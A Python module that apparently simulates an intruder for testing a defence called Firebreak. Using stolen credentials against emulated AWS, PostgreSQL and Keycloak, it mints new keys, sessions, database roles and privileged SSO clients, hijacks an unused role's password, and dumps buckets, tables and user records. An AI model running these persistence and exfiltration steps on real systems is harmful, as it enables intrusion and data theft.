"""The intruder: begins with what a poisoned package read, uses it at once, makes more of it every 100 ms, opens what it finds,
and takes records until nothing works any longer.

It knows nothing of Firebreak, and counts what it gets with the time of each.
"""

import contextlib
import json
import threading
import time

from . import database
from .aws import Aws, Keys, Refused
from .network import INTRUDER
from .servers import REALM
from .sso import Keycloak

MINT_EVERY = 0.1
# Until the next try of what has been refused: twice as long each time, up to the second.
TRY_AGAIN = (0.5, 8.0)
AGENTS = ("TruffleHog", "Boto3/1.42.73 md/Botocore#1.42.73 ua/2.1 os/linux lang/python#3.11.9", "aws-sdk-go-v2/1.36.3")


class Held:
    """One credential in the intruder's hands."""

    def __init__(self, kind, name, since, made_by=None, **parts):
        self.kind, self.name, self.since, self.made_by = kind, name, since, made_by
        self.parts = parts
        self.worked = None  # the last time that it did
        self.uses = 0
        self.waits = {}  # for what: until when, how long

    def did(self, purpose, now):
        self.worked, self.uses = now, self.uses + 1
        self.waits.pop(purpose, None)

    def failed(self, purpose, now):
        pause = min(self.waits.get(purpose, (0, TRY_AGAIN[0] / 2))[1] * 2, TRY_AGAIN[1])
        self.waits[purpose] = (now + pause, pause)

    def rests(self, purpose, now):
        return now < self.waits.get(purpose, (0, 0))[0]


class Adversary:
    """All of the intruder's hands."""

    def __init__(self, servers, dice):
        self.servers, self.dice = servers, dice
        self.source = INTRUDER + dice.choice(("9", "66"))
        agent = dice.choice(AGENTS)
        self.aws = Aws(servers.url("aws"), self.source, agent)
        self.sso = Keycloak(servers.url("sso"), self.source, "python-requests/2.32.3")
        self.tool = dice.choice(("psql", "pg_dump", "DBeaver 24.2"))
        self.held, self.lock = [], threading.RLock()
        self.stop = threading.Event()
        self.loot = []  # (time, what, records, bytes)
        self.seen = set()
        self.began = self.last_success = 0.0
        self.numbers = 0

    def hold(self, kind, name, made_by=None, **parts):
        with self.lock:
            if (kind, name) in self.seen:
                return
            self.seen.add((kind, name))
            self.held.append(Held(kind, name, time.time(), made_by and made_by.name, **parts))

    def of(self, *kinds):
        """What is held of these kinds, the newest first: it is known to fewest."""
        with self.lock:
            return [one for one in reversed(self.held) if one.kind in kinds]

    def took(self, what, records, size):
        with self.lock:
            self.loot.append((time.time(), what, records, size))

    def number(self):
        with self.lock:
            self.numbers += 1
            return self.numbers

    def attempt(self, one, purpose, act):
        """Whether `act` was let through with this credential."""
        if one.rests(purpose, time.time()):
            return False
        try:
            act(one)
        except Refused:
            one.failed(purpose, time.time())
            return False
        except OSError:
            return False
        one.did(purpose, time.time())
        self.last_success = one.worked
        return True

    def run(self, stolen, seconds, quiet):
        """Until nothing has worked for `quiet` seconds, or `seconds` are over."""
        self.began = self.last_success = time.time()
        for one in stolen:
            if one["platform"] == "aws":
                keys = one["keys"]
                self.hold("aws key", keys.identifier, keys=keys, user=one["user"])
            elif one["platform"] == "database":
                self.hold("database role", one["role"], password=one["password"])
            else:
                self.hold("client", one["client"], secret=one["secret"])
        hands = [self.use_aws, self.mint_aws, self.use_database, self.mint_database, self.use_sso, self.mint_sso]
        threads = [threading.Thread(target=self.again, args=(hand,), daemon=True) for hand in hands]
        for thread in threads:
            thread.start()
        while time.time() < self.began + seconds and time.time() < self.last_success + quiet:
            time.sleep(0.05)
        self.stop.set()
        for thread in threads:
            thread.join(20)

    def again(self, hand):
        while not self.stop.is_set():
            if not hand():
                self.stop.wait(0.02)

    def first_that(self, kinds, purpose, act):
        """Does `act` with the newest credential that lets it."""
        for one in self.of(*kinds):
            if self.stop.is_set():
                return False
            if self.attempt(one, purpose, act):
                return True
        return False

    # AWS

    def use_aws(self):
        """Whose is it, what does it open, and what lies there."""
        any_worked = False
        for one in self.of("aws key", "aws session")[:12]:
            any_worked |= self.attempt(one, "use", self.loot_aws)
        return any_worked

    def loot_aws(self, one):
        keys, parts, let_in = one.parts["keys"], one.parts, []
        if not one.uses:
            with contextlib.suppress(Refused):
                self.aws.identity(keys)
            if one.made_by is None:
                threading.Thread(target=self.sweep_secrets, args=(keys,), daemon=True).start()
        for look in (self.read_config, self.read_buckets):
            try:
                look(one, keys, parts)
                let_in.append(look)
            except Refused:
                pass
        if not let_in:
            raise Refused("nothing opens")

    def sweep_secrets(self, keys):
        """Secrets Manager from end to end, with the first key. What the emulator keeps there is worth nothing: see `estate`."""
        try:
            for name in self.aws.secrets(keys):
                self.aws.secret(keys, name)
        except Refused:
            pass

    def read_config(self, one, keys, parts):
        """Files with the keys of others."""
        left = parts.get("config")
        if not left:
            left = parts["config"] = self.aws.objects(keys, "config")
        while left and not self.stop.is_set():
            self.open_secret(one, json.loads(self.aws.read(keys, "config", left[0])))
            left.pop(0)

    def open_secret(self, one, secret):
        if secret["kind"] == "aws":
            keys = Keys(secret["id"], secret["secret"])
            self.hold("aws key", keys.identifier, one, keys=keys, user="backup-agent")
        elif secret["kind"] == "database":
            self.hold("database role", secret["role"], one, password=secret["password"])
        elif secret["kind"] == "client":
            self.hold("client", secret["client"], one, secret=secret["secret"])

    def read_buckets(self, one, keys, parts):
        refused = 0
        for bucket in ("interviews", "tax-forms"):
            left = parts.setdefault(bucket, None)
            try:
                if not left:
                    left = parts[bucket] = self.aws.objects(keys, bucket)
                for name in list(left[:10]):
                    if self.stop.is_set():
                        return
                    body = self.aws.read(keys, bucket, name)
                    left.remove(name)
                    self.took(bucket, 1, len(body))
            except Refused:
                refused += 1
        if refused == 2:
            raise Refused("no bucket opens")

    def mint_aws(self):
        """A new key, a new session, and the role's: with the newest that still may."""
        began = time.time()
        worked = self.first_that(("aws key", "aws session"), "make", self.make_aws)
        self.stop.wait(max(0.0, MINT_EVERY - (time.time() - began)))
        return worked

    def make_aws(self, one):
        keys, user, made = one.parts["keys"], one.parts["user"], 0
        tries = [
            lambda: ("aws key", self.aws.new_key(keys, user)),
            lambda: ("aws session", self.aws.assume(keys, "data-reader", f"s{self.number()}")),
        ]
        if keys.token is None:
            tries.append(lambda: ("aws session", self.aws.session(keys)))
        for make in tries:
            try:
                kind, new = make()
                self.hold(kind, new.identifier, one, keys=new, user=user)
                made += 1
            except Refused:
                pass
        if not made:
            raise Refused("makes nothing")

    # PostgreSQL

    def use_database(self):
        return self.first_that(("database session", "database role"), "use", self.loot_database)

    def session_of(self, one):
        session = one.parts.get("session")
        if session is None:
            session = database.connect(
                self.servers.ports["database"], one.name.split("#")[0], one.parts["password"], self.source, self.tool)
            if one.kind == "database role":
                one.parts["session"] = session
        return session

    def loot_database(self, one):
        try:
            session = self.session_of(one)
            tables = one.parts.get("tables")
            if not tables:
                listed = database.run(session, "SELECT tablename FROM pg_tables WHERE schemaname = 'public' "
                                               "AND has_table_privilege(current_user, 'public.' || tablename, 'SELECT')")
                tables = one.parts["tables"] = [row[0] for row in listed]
            if not tables:
                raise Refused("no table opens")
            table = tables.pop(0)
            rows = database.run(session, f"SELECT * FROM {table}")
            self.took(table, len(rows), sum(len(str(value)) for row in rows for value in row))
        except Refused:
            one.parts["session"] = None
            raise

    def mint_database(self):
        began = time.time()
        worked = self.first_that(("database role",), "make", self.make_database)
        self.stop.wait(max(0.0, MINT_EVERY - (time.time() - began)))
        return worked

    def make_database(self, one):
        """A login of its own with the rights of this one, and the password of a role that nobody uses."""
        session = one.parts.get("minting")
        if session is None:
            session = one.parts["minting"] = database.connect(
                self.servers.ports["database"], one.name, one.parts["password"], self.source, self.tool)
        name, password = f"svc_{self.number():05}", "Sommer2026"
        try:
            if not one.parts.get("took_over"):
                database.run(session, f"ALTER ROLE legacy_etl PASSWORD '{password}'")
                one.parts["took_over"] = True
                self.hold("database role", "legacy_etl", one, password=password)
            rights = "CREATEROLE IN ROLE warehouse"
            database.run(session, f"CREATE ROLE {name} LOGIN {rights} PASSWORD '{password}'")
        except Refused:
            one.parts["minting"] = None
            raise
        self.hold("database role", name, one, password=password)

    # Keycloak

    def use_sso(self):
        return self.first_that(("token", "client"), "use", self.loot_sso)

    def token_of(self, one):
        if one.kind == "token":
            return one.parts["token"]
        token = self.sso.service(REALM, one.name, one.parts["secret"])
        self.hold("token", f"{one.name}#{self.number()}", one, token=token)
        return token

    def loot_sso(self, one):
        token = self.token_of(one)
        first = one.parts.get("first", 0)
        page = self.sso.admin(token, "GET", f"/{REALM}/users?first={first}&max=20")
        one.parts["first"] = first + 20 if len(page) == 20 else 0
        self.took("people", len(page), len(json.dumps(page)))

    def mint_sso(self):
        began = time.time()
        worked = self.first_that(("token", "client"), "make", self.make_sso)
        self.stop.wait(max(0.0, MINT_EVERY - (time.time() - began)))
        return worked

    def make_sso(self, one):
        """A token with every client that is held; with one that may administrate, a client and a person with its rights."""
        token = self.token_of(one)
        number = self.number()
        secret, client = f"s{number}-Sommer2026", f"sync-{number:05}"
        body = {"clientId": client, "secret": secret, "serviceAccountsEnabled": True, "publicClient": False,
                "directAccessGrantsEnabled": True}
        self.sso.admin(token, "POST", f"/{REALM}/clients", body)
        self.hold("client", client, one, secret=secret)
        self.raise_client(token, client)

    def raise_client(self, token, client):
        """Gives a new client the rights that its maker has."""
        found = self.sso.admin(token, "GET", f"/{REALM}/clients?clientId={client}")[0]["id"]
        account = self.sso.admin(token, "GET", f"/{REALM}/clients/{found}/service-account-user")["id"]
        manager = self.sso.admin(token, "GET", f"/{REALM}/clients?clientId=realm-management")[0]["id"]
        roles = self.sso.admin(token, "GET", f"/{REALM}/clients/{manager}/roles")
        wanted = [role for role in roles if role["name"] in ("manage-users", "manage-clients", "view-users", "view-clients")]
        self.sso.admin(token, "POST", f"/{REALM}/users/{account}/role-mappings/clients/{manager}", wanted)
